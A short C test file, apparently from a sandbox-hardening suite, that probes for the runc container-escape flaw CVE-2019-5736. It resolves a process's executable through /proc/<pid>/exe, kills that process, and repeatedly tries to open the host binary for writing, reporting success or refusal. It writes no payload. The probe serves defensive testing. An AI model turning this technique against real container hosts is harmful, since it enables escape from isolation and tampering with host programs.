// SPDX-License-Identifier: GPL-2.0-only
// CVE-2019-5736: the program of a process that came from outside is a file of
// the host.  Found by /proc/<pid>/exe, it is opened for writing when it ended.
// Victims: host
// (that of a guest comes again from its file, which stays busy)
#include "process/life.h"

/* ETXTBSY: nothing but its running is in the way */
static bool may_write(const char *link)
{
	struct stat at;
	char path[256] = "";
	struct stat own;
	int fd;

	if (stat(link, &at) ||
	    readlink(link, path, sizeof(path) - 1) < 0)
		return false;
	if (!stat(path, &own) && own.st_ino == at.st_ino &&
	    own.st_dev == at.st_dev)
		return false;
	fd = open(link, O_WRONLY);
	return fd >= 0 || errno == ETXTBSY;
}

int main(void)
{
	char link[64];
	pid_t pid = fact_number("PID");
	int fd, i;

	victim_lives();
	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	fd = open(link, O_PATH);
	if (fd < 0) {
		snprintf(link, sizeof(link), "/proc/%d/exe", getppid() ?: 1);
		if (may_write(link) || may_write("/proc/1/exe"))
			worked("the program of what entered may be written");
		errno = ENOENT;
		refused("/proc/<pid>/exe");
	}
	kill(pid, SIGKILL);
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	for (i = 0; i < 100; i++) {
		if (open(link, O_WRONLY) >= 0)
			worked("the victim's program is open for writing");
		usleep(10000);
	}
	refused("open for writing");
}
